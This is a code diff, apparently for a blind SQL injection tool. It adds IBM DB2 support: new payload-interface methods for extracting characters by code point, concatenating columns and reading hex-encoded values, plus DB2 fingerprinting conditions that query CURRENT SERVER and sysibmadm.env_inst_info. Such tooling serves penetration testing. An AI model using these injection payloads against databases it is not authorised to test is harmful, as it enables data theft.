@@ -9,6 +9,7 @@ const (
 	MSSQL
 	PostgreSQL
 	Oracle
+	DB2
 )
 
 // DatabasePayloads defines the interface for database-specific payloads
@@ -34,6 +35,18 @@ type DatabasePayloads interface {
 	// GetCharPayload returns a payload to check if ASCII of char at pos > n
 	GetCharPayload(query string, pos int, n int) string
 
+	// GetCodePayload returns a payload to check if the code point of char at pos > n
+	// (handles multibyte characters that ASCII() truncates to their first byte)
+	GetCodePayload(query string, pos int, n int) string
+
+	// GetConcatPayload returns an expression joining the columns with delim,
+	// with NULLs rendered as empty strings so cell positions are preserved
+	GetConcatPayload(columns []string, delim string) string
+
+	// GetHexQuery wraps a query so it returns the hex representation of its value,
+	// which is extracted with digits only and decoded with DecodeHex
+	GetHexQuery(query string) string
+
 	// GetSubstringFunc returns the substring function for this database
 	GetSubstringFunc() string
 
@@ -42,6 +55,10 @@ type DatabasePayloads interface {
 
 	// WrapCondition wraps a condition with proper SQL syntax
 	WrapCondition(condition string) string
+
+	// QuoteIdentifier quotes a table or column name (dot-separated parts are
+	// quoted one by one) so reserved words and special names can be referenced
+	QuoteIdentifier(name string) string
 }
 
 // GetPayloadsForDatabase returns the appropriate payloads for a database type
@@ -55,6 +72,8 @@ func GetPayloadsForDatabase(dbType DatabaseType) DatabasePayloads {
 		return &PostgreSQLPayloads{}
 	case Oracle:
 		return &OraclePayloads{}
+	case DB2:
+		return &DB2Payloads{}
 	default:
 		return nil
 	}
@@ -67,6 +86,7 @@ func AllDatabasePayloads() []DatabasePayloads {
 		&MSSQLPayloads{},
 		&PostgreSQLPayloads{},
 		&OraclePayloads{},
+		&DB2Payloads{},
 	}
 }
 
@@ -129,5 +149,20 @@ func GetAllVersionDetectionPayloads() []VersionDetectionPayload {
 			FalseQuery:  "(SELECT SUBSTR(version,1,1) FROM v$instance)='z'",
 			Description: "Oracle v$instance version",
 		},
+		// DB2 detection - CURRENT SERVER is the uppercase database alias
+		{
+			Database:    DB2,
+			Name:        "DB2",
+			TrueQuery:   "SUBSTR(CURRENT SERVER,1,1) BETWEEN 'A' AND 'Z'",
+			FalseQuery:  "SUBSTR(CURRENT SERVER,1,1)='z'",
+			Description: "DB2 CURRENT SERVER special register",
+		},
+		{
+			Database:    DB2,
+			Name:        "DB2",
+			TrueQuery:   "(SELECT SUBSTR(service_level,1,1) FROM sysibmadm.env_inst_info)='D'",
+			FalseQuery:  "(SELECT SUBSTR(service_level,1,1) FROM sysibmadm.env_inst_info)='z'",
+			Description: "DB2 env_inst_info service level",
+		},
 	}
 }